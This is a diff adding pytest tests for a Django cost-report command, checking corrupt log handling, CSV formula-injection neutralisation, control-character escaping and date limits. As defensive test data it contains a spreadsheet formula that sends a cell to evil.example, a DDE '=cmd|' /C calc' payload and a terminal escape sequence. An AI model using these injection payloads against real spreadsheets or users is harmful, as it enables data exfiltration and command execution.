@@ -313,3 +313,160 @@ def test_sqlite_shows_the_average_latency(db):
     assert report.latency == "average"
     assert report.rows[0].latency_avg_ms == 300
     assert report.rows[0].latency_p50_ms is None
+
+
+# -- hostile logs and hostile names --------------------------------------------------------
+
+
+def test_report_from_hostile_logs_skips_and_counts_bad_lines(db, tmp_path):
+    from tests.test_ingest import build_corpus
+
+    corpus, paths = build_corpus(tmp_path)
+    out, err = StringIO(), StringIO()
+    call_command(
+        "claude_cost_report",
+        "--date",
+        "2026-11-20",
+        "--format",
+        "json",
+        "--from-log",
+        *paths,
+        stdout=out,
+        stderr=err,
+    )
+    data = json.loads(out.getvalue())
+    summary = logfiles.ingest(paths)  # the same lines are good, the same ones bad
+    assert sum(row["calls"] for row in data["rows"]) == summary.created
+    assert summary.created >= len(corpus.good_ids)
+    assert f"{summary.corrupt} corrupt log lines were skipped" in err.getvalue()
+    assert f"{paths[0]}:6: not valid JSON" in err.getvalue()
+    assert "--from-log: " + paths[3] + ": is a directory; skipped" in err.getvalue()
+    assert "missing.log: no such file; skipped" in err.getvalue()
+    # and --save from the same lines
+    call_command(
+        "claude_cost_report",
+        "--date",
+        "2026-11-20",
+        "--save",
+        "--from-log",
+        *paths,
+        stdout=StringIO(),
+        stderr=StringIO(),
+    )
+    assert sum(DailyCost.objects.values_list("calls", flat=True)) == summary.created
+
+
+def test_report_from_lines_counts_lines_it_cannot_add_up(db):
+    good_line = {
+        "created_at": "2026-11-20T09:00:00+00:00",
+        "feature": "f",
+        "model": "m",
+        "input_tokens": 3,
+        "cost_usd": "0.5",
+        "latency_ms": 10,
+    }
+    lines = [
+        good_line,
+        {**good_line, "created_at": "garbled"},
+        {**good_line, "created_at": None},
+        {k: v for k, v in good_line.items() if k != "created_at"},
+        {**good_line, "input_tokens": "lots"},
+        {**good_line, "input_tokens": -4},
+        {**good_line, "output_tokens": 1.5},
+        {**good_line, "cost_usd": "NaN"},
+        {**good_line, "cost_usd": "abc"},
+        {**good_line, "latency_ms": float("inf")},
+        {**good_line, "latency_ms": {"a": 1}},
+        good_line,
+    ]
+    report = reports.cost_report_from_lines(lines, since=DAY)
+    assert report.corrupt_lines == 10
+    [row] = report.rows
+    assert (row.calls, row.input_tokens, row.cost_usd) == (2, 6, Decimal("1"))
+    assert rollups.rollup_from_lines(lines, since=DAY, until=DAY) == 1
+    assert DailyCost.objects.get().calls == 2
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\tTAB",
+    "\rCR",
+    "\uff1d1+1",  # a full-width =
+]
+
+
+def test_csv_cells_are_inert(db):
+    for i, name in enumerate([*FORMULAS, "plain", "a=b", "x-1"]):
+        record(at(9), feature=name, cost_usd=Decimal(i + 1))
+    record(at(9), feature="refund", cost_usd=Decimal("-1.5"))  # a negative cost stays a number
+    out = StringIO()
+    call_command(
+        "claude_cost_report",
+        "--date",
+        "2026-11-20",
+        "--format",
+        "csv",
+        stdout=out,
+        stderr=StringIO(),
+    )
+    rows = {row["feature"]: row for row in csv.DictReader(StringIO(out.getvalue()))}
+    for name in FORMULAS:
+        assert "'" + name in rows, name
+        assert name not in rows
+    for name in ("plain", "a=b", "x-1"):
+        assert name in rows
+    refund = rows["refund"]
+    assert refund["cost_usd"] == "-1.5000000000"
+    assert Decimal(refund["cost_usd"]) == Decimal("-1.5")
+    for row in rows.values():  # every count and cost is a plain number
+        for column, value in row.items():
+            if column != "feature":
+                Decimal(value)
+
+
+def test_inert_csv_text():
+    assert reports.inert_csv_text("=1+1") == "'=1+1"
+    assert reports.inert_csv_text("@x") == "'@x"
+    assert reports.inert_csv_text("") == ""
+    assert reports.inert_csv_text("chat") == "chat"
+    assert reports.inert_csv_text(" =1") == " =1"
+
+
+def test_csv_from_the_log_is_inert_too(db, tmp_path):
+    from tests.test_ingest import dumps, good
+
+    log = tmp_path / "calls.log"
+    log.write_text(dumps(good(1, feature="=cmd|' /C calc'!A0")) + "\n")
+    out = StringIO()
+    call_command(
+        "claude_cost_report",
+        "--date",
+        "2026-11-20",
+        "--format",
+        "csv",
+        "--from-log",
+        str(log),
+        stdout=out,
+        stderr=StringIO(),
+    )
+    [row] = list(csv.DictReader(StringIO(out.getvalue())))
+    assert row["feature"] == "'=cmd|' /C calc'!A0"
+
+
+def test_table_escapes_control_characters_in_names(db):
+    record(at(9), feature="\x1b[2Jred\x07")
+    out = StringIO()
+    call_command("claude_cost_report", "--date", "2026-11-20", stdout=out, stderr=StringIO())
+    assert "\x1b" not in out.getvalue() and "\x07" not in out.getvalue()
+    assert "red" in out.getvalue()
+
+
+def test_the_ends_of_the_calendar(db):
+    assert report_json("--date", "9999-12-30")["rows"] == []
+    assert report_json("--date", "0001-01-02", "--tz", "Pacific/Kiritimati")["rows"] == []
+    for date in ("9999-12-31", "0001-01-01"):
+        with pytest.raises(CommandError, match="--date: .* is out of range"):
+            report_json("--date", date)
